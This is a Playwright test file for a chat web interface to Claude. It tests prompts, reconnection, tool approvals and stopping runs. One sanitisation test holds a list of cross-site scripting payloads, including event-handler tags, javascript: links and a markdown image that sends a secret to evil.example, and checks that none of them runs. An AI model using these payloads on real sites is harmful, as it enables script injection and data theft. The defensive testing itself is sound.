import { expect, type Page, test } from '@playwright/test';
import { openChat as open } from './support/open-chat.ts';
import {
  finished,
  ORIGIN,
  ScriptedServer,
  started,
  text,
  tool,
} from './support/scripted-server.ts';
import { watchForTrouble } from './support/watch.ts';

const user = (id: string, content: string) => ({ id, role: 'user' as const, content });
const box = (page: Page) => page.getByRole('textbox', { name: 'Message to Claude' });

test('a prompt is shown at once, then from its run, and the address names the conversation', async ({
  page,
}) => {
  const { server, trouble } = await open(page);
  expect(server.said[0]).toEqual({ type: 'hello', threadId: null, after: null, ref: 'hello' });
  await box(page).fill('Hello there');
  await box(page).press('Enter');
  await expect(page.getByText('Sending…')).toBeVisible();
  await expect(page).toHaveURL(/\/chat\/#\/c\/thread-1$/);
  const prompt = await server.prompt();
  expect(prompt).toMatchObject({
    threadId: 'thread-1',
    messages: [{ role: 'user', content: 'Hello there' }],
    tools: [],
    context: [],
    state: {},
    forwardedProps: {},
  });
  server.accept(prompt);
  server.keep(...text('m1', 'Good ', 'day'), finished(prompt.runId));
  await expect(page.getByText('Good day', { exact: true })).toBeVisible();
  await expect(page.getByText('Sending…')).toHaveCount(0);
  await expect(page.locator('.bubble')).toHaveText(['Hello there']);
  trouble.expectClean();
});

test('what is sent before the server has answered goes once it has, once, and not after a change', async ({
  page,
}) => {
  await watchForTrouble(page);
  const server = await ScriptedServer.start(page);
  server.onHello = () => {};
  await page.goto(`${ORIGIN}/chat/`);
  await expect.poll(() => server.said.length).toBe(1);
  await box(page).fill('early');
  await box(page).press('Enter');
  await box(page).pressSequentially(' bird');
  server.greet();
  const status = page.getByRole('status').filter({ hasText: /^Live$/ });
  await expect(status).toBeAttached();
  await expect(box(page)).toHaveValue('early bird');

  // What was left unsent comes back with the answer, and is a change too.
  await page.reload();
  await expect.poll(() => server.said.filter(({ type }) => type === 'hello').length).toBe(2);
  await box(page).fill('second');
  await box(page).press('Enter');
  server.greet();
  await expect(box(page)).toHaveValue('early bird\n\nsecond');
  await box(page).fill('');

  await page.reload();
  await expect.poll(() => server.said.filter(({ type }) => type === 'hello').length).toBe(3);
  await box(page).fill('third');
  await box(page).press('Enter');
  await box(page).press('Enter');
  server.greet();
  await expect(box(page)).toHaveValue('');
  await expect(page.locator('.bubble')).toHaveText(['third']);
  expect(server.said.filter((said) => 'messages' in said)).toHaveLength(1);
});

test('Shift+Enter breaks the line, Enter sends, and Enter while composing does neither', async ({
  page,
}) => {
  const { server } = await open(page);
  await box(page).pressSequentially('one');
  await box(page).press('Shift+Enter');
  await box(page).pressSequentially('two');
  await expect(box(page)).toHaveValue('one\ntwo');
  const devtools = await page.context().newCDPSession(page);
  await devtools.send('Input.imeSetComposition', {
    text: 'に',
    selectionStart: 1,
    selectionEnd: 1,
  });
  await devtools.send('Input.dispatchKeyEvent', {
    type: 'rawKeyDown',
    key: 'Enter',
    code: 'Enter',
    windowsVirtualKeyCode: 229,
  });
  await devtools.send('Input.insertText', { text: '日' });
  await expect(box(page)).toHaveValue('one\ntwo日');
  expect(server.said.filter((said) => 'messages' in said)).toEqual([]);
  await box(page).press('Enter');
  expect((await server.prompt()).messages).toMatchObject([{ content: 'one\ntwo日' }]);
});

test('[R58] nothing of an answer, a tool or a prompt runs in the page or asks another server', async ({
  page,
}) => {
  const { server, trouble } = await open(page);
  await page.evaluate(() => Object.assign(window, { hacked: [] }));
  const evil = [
    '<script>hacked.push(1)</script>',
    '<img src="https://evil.example/a.png" onerror="hacked.push(2)">',
    '<svg onload="hacked.push(3)"></svg><iframe srcdoc="<script>parent.hacked.push(4)</script>"></iframe>',
    '<details open ontoggle="hacked.push(5)">x</details><style>*{display:none}</style>',
    '<form action="https://evil.example"><button>b</button></form><base href="https://evil.example/">',
    '[click](javascript:hacked.push(6)) [data](data:text/html,<script>hacked.push(7)</script>)',
    '[tab](java\tscript:hacked.push(8)) <javascript:hacked.push(9)> [v](vbscript:x)',
    '![exfiltrate](https://evil.example/p.png?secret=abc)',
    '[ref][r]\n\n[r]: javascript:hacked.push(10)',
    '| <b onmouseover="hacked.push(11)">a</b> |\n|---|\n| <img src=x onerror=hacked.push(12)> |',
    '```html" onmouseover="hacked.push(13)\n</code></pre><img src=x onerror=hacked.push(14)>\n```',
  ].join('\n\n');
  server.keep(
    started('r1', [user('u1', evil)]),
    ...tool('c1', '<img src=x onerror=hacked.push(15)>', { command: evil }, evil),
    ...text('m1', ...evil.match(/[\s\S]{1,7}/g)!),
    finished('r1'),
  );
  await expect(page.getByText('image: exfiltrate')).toBeVisible();
  await page.locator('summary').first().click();
  for (const link of await page.locator('.markdown a').all()) {
    expect(await link.getAttribute('href')).toMatch(/^https:\/\/evil\.example\/p\.png/);
    expect(await link.getAttribute('rel')).toContain('noopener');
    expect(await link.getAttribute('target')).toBe('_blank');
  }
  await page.locator('.markdown').hover();
  expect(
    await page.locator('.run :is(script, img, svg, iframe, style, form, base, input)').count(),
  ).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { hacked: unknown[] }).hacked)).toEqual(
    [],
  );
  trouble.expectClean();
});

test('[R58] the policy is in force: markup that is not sanitised is refused by the browser, and seen here', async ({
  page,
}) => {
  const { trouble } = await open(page);
  const refused = await page.evaluate(() => {
    try {
      document.body.innerHTML = '<b>no</b>';
      return null;
    } catch (error) {
      return String(error);
    }
  });
  expect(refused).toContain('TypeError');
  await expect.poll(() => trouble.seen().join()).toContain('require-trusted-types-for');
});

test('code is coloured once its fence is closed, and the button copies it', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: ORIGIN });
  const { server, trouble } = await open(page);
  const events = text('m1', '```ts\nconst answer', ' = 42;\n', '```\n');
  server.keep(started('r1', [user('u1', 'code')]), ...events.slice(0, 3));
  await expect(page.locator('code')).toHaveText('const answer = 42;\n');
  expect(await page.locator('code span').count()).toBe(0);
  server.keep(...events.slice(3), finished('r1'));
  await expect(page.locator('code .hljs-keyword')).toHaveText('const');
  await page.getByRole('button', { name: 'Copy', exact: true }).click();
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('const answer = 42;');
  trouble.expectClean();
});

test('blocks that are finished are left alone while the answer grows', async ({ page }) => {
  const { server } = await open(page);
  const paragraphs = Array.from({ length: 6 }, (_, i) => `Paragraph ${i}.\n\n`);
  const events = text('m1', ...paragraphs, 'More ', 'and ', 'more.');
  server.keep(started('r1', [user('u1', 'x')]), ...events.slice(0, 7));
  await expect(page.getByText('Paragraph 5.')).toBeVisible();
  const changed = await page.locator('.markdown').evaluateHandle((markdown) => {
    const seen = new Set<string>();
    const observer = new MutationObserver((records) => {
      for (const { target } of records) {
        const element = target instanceof Element ? target : target.parentElement;
        seen.add(element?.closest('.block')?.textContent ?? 'list');
      }
    });
    observer.observe(markdown, { childList: true, characterData: true, subtree: true });
    return seen;
  });
  server.keep(...events.slice(7), finished('r1'));
  await expect(page.getByText('More and more.', { exact: true })).toBeVisible();
  await expect(page.locator('.activity')).toHaveCount(0);
  const touched = await changed.evaluate((seen) => [...seen]);
  for (const i of [0, 1, 2, 3]) expect(touched.join()).not.toContain(`Paragraph ${i}`);
});

test('thinking and tools are folded, and say what they are', async ({ page }) => {
  const { server } = await open(page);
  server.keep(
    started('r1', [user('u1', 'x')]),
    { type: 'REASONING_MESSAGE_START', messageId: 't1', role: 'reasoning' },
    { type: 'REASONING_MESSAGE_CONTENT', messageId: 't1', delta: 'Secret musings' },
  );
  await expect(page.locator('.activity')).toContainText('Thinking');
  server.keep({ type: 'REASONING_MESSAGE_END', messageId: 't1' });
  server.keep(...tool('c1', 'Bash', { command: 'ls -la' }, null));
  await expect(page.locator('.activity')).toContainText('Running Bash ls -la');
  server.keep({
    type: 'TOOL_CALL_RESULT',
    messageId: 'r:c1',
    toolCallId: 'c1',
    content: 'total 8',
  });
  await expect(page.locator('.activity')).toContainText('Waiting for Claude');
  await expect(page.getByText('Secret musings')).toHaveCount(0);
  await page.getByText('Thoughts', { exact: true }).click();
  await expect(page.getByText('Secret musings')).toBeVisible();
  await page.locator('.tool summary').click();
  await expect(page.getByText('total 8')).toBeVisible();
});

for (const [button, payload] of [
  ['Allow once', { approved: true, scope: 'once' }],
  ['Allow for this conversation', { approved: true, scope: 'conversation' }],
  ['Deny', { approved: false, message: 'Use trash instead' }],
] as const)
  test(`[R63] approval: “${button}” is sent as the answer, and the card closes with the run`, async ({
    page,
  }) => {
    const { server, trouble } = await open(page, '/chat/#/c/thread-1');
    const input = { command: 'rm -rf dist', timeout: 5 };
    const suggestions = [{ type: 'addRules', rules: [{ toolName: 'Bash' }] }];
    server.keep(started('r1', [user('u1', 'clean up')]), ...tool('c1', 'Bash', input, null), {
      type: 'RUN_FINISHED',
      threadId: 'thread-1',
      runId: 'r1',
      outcome: {
        type: 'interrupt',
        interrupts: [
          {
            id: 'i1',
            reason: 'approval_required',
            toolCallId: 'c1',
            metadata: { kind: 'approval', toolName: 'Bash', input, suggestions },
          },
        ],
      },
    });
    const card = page.getByRole('region', { name: 'Approval' });
    await expect(card).toContainText('Claude wants to use Bash');
    await expect(card.locator('pre')).toHaveText(JSON.stringify(input, null, 2));
    if (button === 'Deny') await card.getByRole('textbox').fill('Use trash instead');
    await card.getByRole('button', { name: button }).click();
    const answer = await server.prompt();
    expect(answer).toMatchObject({
      threadId: 'thread-1',
      parentRunId: 'r1',
      messages: [],
      resume: [{ interruptId: 'i1', status: 'resolved', payload }],
    });
    await expect(card).toBeVisible();
    server.send({ type: 'reply', ref: answer.runId, fault: null });
    server.keep(started(answer.runId, [], 'r1'), finished(answer.runId));
    await expect(card).toHaveCount(0);
    trouble.expectClean();
  });

test('Stop and Escape abort the live run; the answer says that it was stopped', async ({
  page,
}) => {
  const { server } = await open(page);
  for (const runId of ['r1', 'r2']) {
    server.keep(
      started(runId, [user(`u-${runId}`, 'x')]),
      ...text(`m-${runId}`, 'half').slice(0, 2),
    );
    const stop = page.getByRole('button', { name: 'Stop' });
    await expect(stop).toBeVisible();
    if (runId === 'r1') await stop.click();
    else await page.keyboard.press('Escape');
    await expect.poll(() => server.said.at(-1)).toMatchObject({ type: 'abort', runId });
    server.send({ type: 'reply', ref: `abort-${runId}`, fault: null });
    server.keep({
      type: 'RUN_FINISHED',
      threadId: 'thread-1',
      runId,
      outcome: { type: 'cancelled' },
    });
    await expect(stop).toHaveCount(0);
  }
  await expect(page.getByText('Stopped.', { exact: true })).toHaveCount(3); // two runs and the announcement
});

test('[R4] a cut socket comes back with the cursor, and what is sent twice is shown once', async ({
  page,
}) => {
  const { server } = await open(page);
  const events = [started('r1', [user('u1', 'go')]), ...text('m1', 'one ', 'two ', 'three ')];
  const frames = events.map((chunk, i) => ({ id: `x${i}`, chunk }));
  server.send(...frames.slice(0, 4));
  await expect(page.locator('.markdown')).toHaveText('one two');
  server.onHello = () => {
    server.welcome();
    server.send(...frames.slice(2), { type: 'caughtUp', head: 'x5' });
  };
  await server.sockets.at(-1)?.close({ code: 1012 });
  await expect(page.locator('.markdown')).toHaveText('one two three');
  expect(server.said.filter(({ type }) => type === 'hello')[1]).toMatchObject({
    threadId: 'thread-1',
    after: 'x3',
  });
  await expect(page.locator('.bubble')).toHaveText(['go']);
});

test('[R7] a prompt whose socket dies before the reply is sent again with the same run id', async ({
  page,
}) => {
  const { server } = await open(page);
  await box(page).fill('do it once');
  await box(page).press('Enter');
  const first = await server.prompt();
  await server.sockets.at(-1)?.close({ code: 1012 });
  const second = await server.prompt(1);
  expect(second).toEqual(first);
  server.accept(second);
  await expect(page.locator('.bubble')).toHaveText(['do it once']);
});

test('a refused prompt comes back to the box, with the reason', async ({ page }) => {
  const { server } = await open(page);
  await box(page).fill('precious words');
  await box(page).press('Enter');
  const { runId } = await server.prompt();
  await box(page).fill('typed since');
  server.send({ type: 'reply', ref: runId, fault: 'queue.full' });
  await expect(box(page)).toHaveValue('precious words\n\ntyped since');
  await expect(page.getByText('Too many prompts are waiting')).toBeVisible();
  await expect(page.locator('.bubble')).toHaveCount(0);
});

test('queued prompts wait visibly and can be taken back', async ({ page }) => {
  const { server } = await open(page);
  server.keep(started('r1', [user('u1', 'first')]));
  server.send({
    type: 'pending',
    items: [{ runId: 'q1', text: 'second', why: 'queued', position: 1 }],
  });
  await expect(page.getByText('Queued, number 1')).toBeVisible();
  await page.getByRole('button', { name: 'Take back' }).click();
  await expect(box(page)).toHaveValue('second');
  await expect.poll(() => server.said.at(-1)).toMatchObject({ type: 'abort', runId: 'q1' });
});

test('a prompt over the limit cannot be sent, and the page says by how much', async ({ page }) => {
  const { server } = await open(page);
  server.welcome({ maxPromptBytes: 10 });
  await box(page).fill('twelve bytes');
  await expect(page.getByText('Too long by 2 bytes')).toBeVisible();
  await expect(page.getByRole('button', { name: 'Send' })).toBeDisabled();
  await box(page).press('Enter');
  await expect(box(page)).toHaveValue('twelve bytes');
});

test('a draft survives a reload, and each conversation has its own', async ({ page }) => {
  await open(page);
  await box(page).fill('half a thought');
  await page.reload();
  await expect(box(page)).toHaveValue('half a thought');
  await page.goto(`${ORIGIN}/chat/#/c/other`);
  await expect(box(page)).toHaveValue('');
  await page.goto(`${ORIGIN}/chat/`);
  await expect(box(page)).toHaveValue('half a thought');
});

test('a code that no retry mends stops, with the reason and a way on', async ({ page }) => {
  const { server } = await open(page, '/chat/#/c/gone');
  await server.sockets.at(-1)?.close({ code: 4404 });
  await expect(page.getByText('There is no such conversation: it was deleted')).toBeVisible();
  await page.getByRole('button', { name: 'New chat' }).click();
  await expect.poll(() => server.sockets.length).toBe(2);
  await expect.poll(() => server.said.at(-1)).toMatchObject({ type: 'hello', threadId: null });
});

test('the view follows the answer only while the reader is at its end', async ({ page }) => {
  const { server } = await open(page);
  const lines = Array.from({ length: 60 }, (_, i) => `Line ${i}\n\n`);
  server.keep(started('r1', [user('u1', 'x')]), ...text('m1', ...lines).slice(0, -1));
  await expect(page.getByText('Line 59')).toBeInViewport();
  await page.locator('.scroller').hover();
  await page.mouse.wheel(0, -1500);
  const newBelow = page.getByRole('button', { name: 'New below' });
  await expect(newBelow).toBeVisible();
  server.keep({ type: 'TEXT_MESSAGE_CONTENT', messageId: 'm1', delta: 'Line 60\n\n' });
  await expect(page.getByText('Line 60')).toBeAttached();
  await expect(page.getByText('Line 60')).not.toBeInViewport();
  await newBelow.click();
  await expect(page.getByText('Line 60')).toBeInViewport();
  await expect(newBelow).toHaveCount(0);
});

test('the demo agent is shown as such, and a finished answer is announced once', async ({
  page,
}) => {
  const { server } = await open(page);
  server.welcome({
    agent: { kind: 'demo', model: null, version: null, notice: 'No Claude Code is signed in.' },
  });
  await expect(page.getByRole('complementary')).toHaveText('No Claude Code is signed in.');
  server.keep(started('r1', [user('u1', 'x')]), ...text('m1', 'All done.'));
  const announcer = page.locator('[aria-live="polite"]');
  await expect(page.locator('.markdown')).toHaveText('All done.');
  await expect(announcer).toHaveText('');
  server.keep(finished('r1'));
  await expect(announcer).toHaveText('Claude answered: All done.');
});

test('the composer’s focus warms the server once a connection', async ({ page }) => {
  const { server } = await open(page);
  const warmed = () => server.said.filter(({ type }) => type === 'warm').length;
  await page.getByRole('button', { name: 'New chat' }).focus();
  await box(page).focus();
  await expect.poll(warmed).toBe(1);
  await page.getByRole('button', { name: 'New chat' }).focus();
  await box(page).focus();
  await box(page).fill('x');
  await box(page).press('Enter');
  await server.prompt();
  expect(warmed()).toBe(1);
});
